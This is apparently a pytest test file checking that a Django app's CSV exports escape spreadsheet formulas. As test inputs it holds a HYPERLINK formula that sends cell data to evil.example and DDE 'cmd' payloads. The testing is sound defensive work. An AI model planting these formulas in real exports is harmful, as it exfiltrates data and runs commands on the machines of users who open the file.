"""CSV exports never hand a spreadsheet a formula (issue 9, item 16)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from experiments.exports import csv_cell
from tests.web import factories

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        (-2.0, -2.0),
        ("lr sweep", "lr sweep"),
        (None, None),
    ],
)
def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers(value, expected):
    assert csv_cell(value) == expected


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_experiment_csv_prefixes_a_hostile_name_and_metric(as_member, owner, wl):
    e = factories.experiment(owner, wl, name=HOSTILE, status="succeeded")
    factories.run(e, 0, metrics={"accuracy": 0.9, "note": "@SUM(1)"})
    text = as_member.get(reverse("experiment_export", args=[e.code, "csv"])).content.decode()
    row = _rows(text)[0]
    assert row["name"] == "'" + HOSTILE
    assert row["metrics"].startswith("{")  # JSON text is no formula
    legacy = as_member.get(reverse("experiment_export", args=[e.code, "legacy.csv"]))
    for cell in _rows(legacy.content.decode())[0].values():
        assert not (cell or "").startswith(("=", "@")), cell
